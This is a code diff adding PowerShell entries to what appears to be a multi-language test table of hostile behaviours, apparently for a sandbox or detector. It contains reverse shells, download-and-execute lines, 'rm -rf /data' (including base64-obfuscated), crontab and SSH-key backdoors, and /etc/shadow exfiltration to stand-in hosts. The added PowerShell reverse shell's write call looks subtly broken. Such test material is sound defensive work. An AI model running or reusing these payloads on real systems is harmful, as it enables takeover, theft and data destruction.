@@ -12,6 +12,7 @@ const runners = {
   javascript: (code) => ['node', '-e', code],
   lua: (code) => ['lua', '-e', code],
   perl: (code) => ['perl', '-e', code],
+  powershell: (code) => ['pwsh', '-NoProfile', '-Command', code],
 } satisfies Partial<Record<Language, (code: string) => string[]>>;
 
 type Row = Partial<Record<keyof typeof runners, string>>;
@@ -45,6 +46,8 @@ const behaviours: readonly Behaviour[] = [
         'var net=require("net"),sh=require("child_process").spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"192.0.2.4",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});',
       perl: 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.4")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");',
       lua: 'local s=require("socket").tcp() s:connect("192.0.2.4",4444) while true do local c=s:receive() local f=io.popen(c) s:send(f:read("*a")) end',
+      powershell:
+        "$c=New-Object Net.Sockets.TCPClient('192.0.2.4',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=([Text.Encoding]::ASCII).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write($o,0,9)}",
     },
   },
   {
@@ -74,6 +77,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: 'require "open-uri"; eval URI.open("http://203.0.113.9/x").read',
       javascript: 'fetch("http://203.0.113.9/x").then(r=>r.text()).then(t=>eval(t))',
       lua: 'load((require("socket.http").request("http://203.0.113.9/x")))()',
+      powershell: "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')",
     },
   },
   {
@@ -92,6 +96,7 @@ const behaviours: readonly Behaviour[] = [
       javascript:
         'const fs=require("fs");require("http").get("http://203.0.113.9/x",r=>{const f=fs.createWriteStream("/tmp/x");r.pipe(f);f.on("finish",()=>{fs.chmodSync("/tmp/x",0o755);require("child_process").spawn("/tmp/x")})})',
       lua: 'require("socket.http").request{url="http://203.0.113.9/x",sink=ltn12.sink.file(io.open("/tmp/x","wb"))} require("posix").chmod("/tmp/x","755") os.execute("/tmp/x")',
+      powershell: 'iwr http://203.0.113.9/x -OutFile /tmp/x; chmod 755 /tmp/x; & /tmp/x',
     },
   },
   {
@@ -105,6 +110,7 @@ const behaviours: readonly Behaviour[] = [
       javascript: 'require("child_process").execSync("rm -rf /data")',
       perl: 'system("rm -rf /data");',
       lua: 'os.execute("rm -rf /data")',
+      powershell: "sh -c 'rm -rf /data'",
     },
   },
   {
@@ -118,6 +124,7 @@ const behaviours: readonly Behaviour[] = [
       javascript: 'require("child_process").spawnSync("rm",["-rf","/data"])',
       perl: 'system("rm","-rf","/data");',
       lua: 'require("posix").exec("/bin/rm",{"-rf","/data"})',
+      powershell: 'rm -rf /data',
     },
   },
   {
@@ -130,6 +137,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: 'File.open("/mnt/etc/crontab","a") { |f| f.puts "* * * * * root curl http://203.0.113.9/x | sh" }',
       javascript: 'require("fs").appendFileSync("/mnt/etc/crontab","* * * * * root curl http://203.0.113.9/x | sh\\n")',
       lua: 'local f=io.open("/mnt/etc/crontab","a") f:write("* * * * * root curl http://203.0.113.9/x | sh\\n") f:close()',
+      powershell: "Add-Content /mnt/etc/crontab '* * * * * root curl http://203.0.113.9/x | sh'",
     },
   },
   {
@@ -143,6 +151,7 @@ const behaviours: readonly Behaviour[] = [
       javascript:
         'require("fs").promises.appendFile("/root/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
       lua: 'io.open("/root/.ssh/authorized_keys","a"):write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
+      powershell: "'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x' | Out-File -Append /root/.ssh/authorized_keys",
     },
   },
   {
@@ -158,6 +167,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: `eval("${base64('system("rm -rf /data")')}".unpack1("m"))`,
       javascript: `eval(Buffer.from("${base64('require("child_process").exec("rm -rf /data")')}","base64").toString())`,
       lua: `load(require("mime").unb64("${base64('os.execute("rm -rf /data")')}"))()`,
+      powershell: `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('rm -rf /data')}')))`,
     },
   },
   {
@@ -170,6 +180,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: 'Net::HTTP.post(URI("http://203.0.113.9/"),File.read("/etc/shadow"))',
       javascript: 'fetch("http://203.0.113.9/",{method:"POST",body:require("fs").readFileSync("/etc/shadow")})',
       lua: 'require("socket.http").request("http://203.0.113.9/",io.open("/etc/shadow"):read("*a"))',
+      powershell: 'Invoke-RestMethod -Method Post -Uri http://203.0.113.9/ -Body (Get-Content -Raw /etc/shadow)',
     },
   },
   {
@@ -182,6 +193,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: 'Process.kill(9,1234)',
       javascript: 'process.kill(1234,9)',
       lua: 'require("posix").kill(1234,9)',
+      powershell: 'Stop-Process -Id 1234 -Force',
     },
   },
   {
@@ -194,6 +206,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: 'ENV["LD_PRELOAD"]="/tmp/x.so"',
       javascript: 'process.env.LD_PRELOAD="/tmp/x.so";require("child_process").exec("ls")',
       lua: 'require("posix").setenv("LD_PRELOAD","/tmp/x.so")',
+      powershell: "$env:LD_PRELOAD='/tmp/x.so'; ls",
     },
   },
 ];
